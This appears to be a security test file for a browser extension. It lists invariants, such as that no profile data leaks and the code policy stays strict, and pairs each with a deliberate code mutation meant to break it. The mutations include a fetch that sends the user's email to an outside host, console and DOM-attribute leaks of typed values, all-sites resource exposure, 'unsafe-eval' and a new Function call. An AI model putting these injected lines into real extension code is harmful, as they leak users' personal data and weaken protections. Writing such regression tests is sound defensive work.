import { BUNDLES, hostile, MANIFEST, NEWS, playwright, WRITE } from './kinds.mjs';

/** What leaves, and what is in the package. */
export const PACKAGE = [
  [
    'no file of the package is open to the web',
    hostile('fetches the extension'),
    [
      MANIFEST,
      'content_security_policy:',
      "web_accessible_resources: [{ resources: ['*'], matches: ['<all_urls>'] }],\n    content_security_policy:",
    ],
  ],
  [
    'a word of the profile on the console is seen',
    playwright('leak'),
    [
      WRITE,
      'const hasChanged = watchOutline();',
      'const hasChanged = watchOutline();\n  console.log(JSON.stringify(steps));',
    ],
  ],
  [
    'a word of the profile in an attribute is seen',
    playwright('leak'),
    [
      WRITE,
      'results.set(step.ref, await writeControl(element, step));',
      "results.set(step.ref, await writeControl(element, step));\n    if (step.kind === 'type') element.setAttribute('data-x', step.value);",
    ],
  ],
  [
    'a word of the profile in a request is seen',
    playwright('leak'),
    [
      NEWS,
      'if (isDone(delivery)) return;',
      'if (isDone(delivery)) return;\n  void fetch(`https://unitedstates.github.io/x?e=${context.request.values.email}`).catch(() => undefined);',
    ],
  ],
  [
    'receipts hold no address',
    playwright('leak'),
    [
      'entrypoints/background/receipts/keep.ts',
      'title: alert.title,',
      "title: `${alert.title} ${request.values['address-line1']}`,",
    ],
  ],
  ['strict policy for code', BUNDLES, [MANIFEST, "script-src 'self';", "script-src 'self' 'unsafe-eval';"]],
  [
    'no code from text',
    BUNDLES,
    ['entrypoints/background/index.ts', 'registerReach();', "registerReach();\n  new Function('return 1')();"],
  ],
];
